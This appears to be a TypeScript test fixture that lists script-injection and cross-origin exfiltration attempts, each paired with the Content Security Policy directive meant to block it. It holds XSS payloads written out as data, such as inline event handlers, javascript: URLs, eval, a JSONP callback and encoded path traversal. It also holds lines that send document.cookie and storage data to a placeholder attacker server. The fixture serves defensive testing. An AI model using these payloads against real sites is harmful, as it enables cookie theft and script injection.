/** URLs: the attacker's server, and a script and a style sheet of the product. */
export interface AttackUrls {
  evil: string
  script: string
  style: string
}

export interface Injection {
  name: string
  /** The violated directive, or 'load' for a failed load; null if only the console reports the refusal. */
  stops: RegExp | null
  /** Markup injected into the page. */
  html?: (urls: AttackUrls) => string
  /** Code of a script file on the bundle path, which the browser runs. */
  code?: (urls: AttackUrls) => string
  /** Selector of an element to click, for attacks that wait for one. */
  press?: string
}

const WRONG_HASH = `sha384-${'A'.repeat(64)}`
const NOT_LOADED = /^load$/m
const RUNS = /^script-src/m

const MARKUP: readonly Injection[] = [
  { name: 'an inline script', stops: RUNS, html: () => '<script>hurt()</script>' },
  { name: 'an inline module', stops: RUNS, html: () => '<script type="module">hurt()</script>' },
  {
    name: 'an import map',
    stops: RUNS,
    html: ({ evil }) => `<script type="importmap">{"imports":{"/":"${evil}/"}}</script>`,
  },
  { name: 'an inline event handler', stops: RUNS, html: () => '<img src="data:," onerror="hurt()">' },
  { name: 'an event handler in SVG', stops: RUNS, html: () => '<svg onload="hurt()"></svg>' },
  { name: 'a script in SVG', stops: RUNS, html: () => '<svg><script>hurt()</script></svg>' },
  {
    name: 'a javascript: link',
    stops: RUNS,
    html: () => '<a id="press" href="javascript:hurt()">x</a>',
    press: '#press',
  },
  {
    name: 'a script from another origin',
    stops: RUNS,
    html: ({ evil }) => `<script src="${evil}/x.js"></script>`,
  },
  {
    name: 'a script in a data: URL',
    stops: RUNS,
    html: () => '<script src="data:text/javascript,hurt()"></script>',
  },
  {
    name: 'an API answer loaded as a script',
    stops: RUNS,
    html: () => '<script src="/api/remotes?callback=hurt"></script>',
  },
  {
    name: 'an encoded path out of the bundle folder',
    stops: RUNS,
    html: () => '<script src="/bundles/%2e%2e/api/remotes?callback=hurt"></script>',
  },
  {
    name: 'an encoded slash out of the bundle folder',
    stops: NOT_LOADED,
    html: () => '<script src="/bundles/..%2fapi%2fremotes?callback=hurt"></script>',
  },
  {
    name: 'a style sheet loaded as a script',
    stops: NOT_LOADED,
    html: ({ style }) => `<script src="${style}"></script>`,
  },
  {
    name: 'a script with a wrong hash',
    stops: NOT_LOADED,
    html: ({ script }) =>
      `<script src="${script}" integrity="${WRONG_HASH}" crossorigin="anonymous"></script>`,
  },
  { name: 'a base URL of another origin', stops: /^base-uri/m, html: ({ evil }) => `<base href="${evil}/">` },
  {
    name: 'a form to another origin',
    stops: /^form-action/m,
    html: ({ evil }) => `<form action="${evil}/form"><button id="press">x</button></form>`,
    press: '#press',
  },
  {
    name: 'a frame of another origin',
    stops: /^frame-src/m,
    html: ({ evil }) => `<iframe src="${evil}/frame"></iframe>`,
  },
  {
    name: 'a srcdoc frame with a script',
    stops: null,
    html: () => `<iframe srcdoc="<script>parent.hurt()</script>"></iframe>`,
  },
  {
    name: 'an object of another origin',
    stops: /^object-src/m,
    html: ({ evil }) => `<object data="${evil}/object"></object>`,
  },
  {
    name: 'an embed of another origin',
    stops: /^object-src/m,
    html: ({ evil }) => `<embed src="${evil}/embed">`,
  },
  {
    name: 'an inline style sheet',
    stops: /^style-src/m,
    html: ({ evil }) => `<style>body { background: url(${evil}/style) }</style>`,
  },
  {
    name: 'a style sheet from another origin',
    stops: /^style-src/m,
    html: ({ evil }) => `<link rel="stylesheet" href="${evil}/x.css">`,
  },
  {
    name: 'a style attribute',
    stops: /^style-src/m,
    html: ({ evil }) => `<p style="background: url(${evil}/attribute)">x</p>`,
  },
  {
    name: 'an image from another origin',
    stops: /^img-src/m,
    html: ({ evil }) => `<img src="${evil}/x.png" alt="">`,
  },
  {
    name: 'a video from another origin',
    stops: /^media-src/m,
    html: ({ evil }) => `<video src="${evil}/x.mp4"></video>`,
  },
  {
    name: 'a bundle script without an integrity hash',
    stops: NOT_LOADED,
    html: ({ script }) => `<script src="${script}?again"></script>`,
  },
]

const CODE: readonly Injection[] = [
  { name: 'eval', stops: RUNS, code: () => `eval('hurt()')` },
  { name: 'new Function', stops: RUNS, code: () => `new Function('hurt()')()` },
  { name: 'a timer with code as text', stops: RUNS, code: () => `setTimeout('hurt()')` },
  {
    name: 'WebAssembly',
    stops: RUNS,
    code: () => `WebAssembly.compile(new Uint8Array([0,97,115,109,1,0,0,0])).then(() => hurt(), () => {})`,
  },
  { name: 'an import of a data: URL', stops: RUNS, code: () => `import('data:text/javascript,hurt()')` },
  { name: 'an import from another origin', stops: RUNS, code: ({ evil }) => `import('${evil}/x.js')` },
  {
    name: 'an import of a blob: URL',
    stops: RUNS,
    code: () => `import(URL.createObjectURL(new Blob(['hurt()'], { type: 'text/javascript' })))`,
  },
  {
    name: 'a script element with text',
    stops: RUNS,
    code: () => `document.body.append(Object.assign(document.createElement('script'), { text: 'hurt()' }))`,
  },
  {
    name: 'inserted markup with an event handler',
    stops: RUNS,
    code: () => `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="hurt()">')`,
  },
  {
    name: 'a navigation to a javascript: URL',
    stops: RUNS,
    code: () => `location.href = 'javascript:hurt()'`,
  },
  {
    name: 'a worker from a blob: URL',
    stops: /^worker-src/m,
    code: () => `new Worker(URL.createObjectURL(new Blob(['fetch("/api/remotes")'])))`,
  },
  {
    name: 'a service worker',
    stops: null,
    code: ({ script }) =>
      `navigator.serviceWorker.register('${script}').then(() => hurt(), ({ message }) => console.error(message))`,
  },
  {
    name: 'a fetch to another origin',
    stops: /^connect-src/m,
    code: ({ evil }) => `fetch('${evil}/call?' + document.cookie).catch(() => {})`,
  },
  {
    name: 'a beacon to another origin',
    stops: /^connect-src/m,
    code: ({ evil }) => `navigator.sendBeacon('${evil}/beacon', 'x')`,
  },
  {
    name: 'a WebSocket to another origin',
    stops: /^connect-src/m,
    code: ({ evil }) => `new WebSocket('${evil.replace('http', 'ws')}/socket')`,
  },
  {
    name: 'an event stream from another origin',
    stops: /^connect-src/m,
    code: ({ evil }) => `new EventSource('${evil}/events')`,
  },
  {
    name: 'an image request with data to another origin',
    stops: /^img-src/m,
    code: ({ evil }) => `new Image().src = '${evil}/pixel?' + localStorage.length`,
  },
  {
    name: 'a font request to another origin',
    stops: /^font-src/m,
    code: ({ evil }) => `new FontFace('x', 'url(${evil}/font)').load().catch(() => {})`,
  },
  {
    name: 'a scripted frame of another origin',
    stops: /^frame-src/m,
    code: ({ evil }) =>
      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${evil}/frame' }))`,
  },
]

/** Attempts to inject scripts and to send data to another origin, each with the directive that blocks it. */
export const INJECTIONS: readonly Injection[] = [...MARKUP, ...CODE]
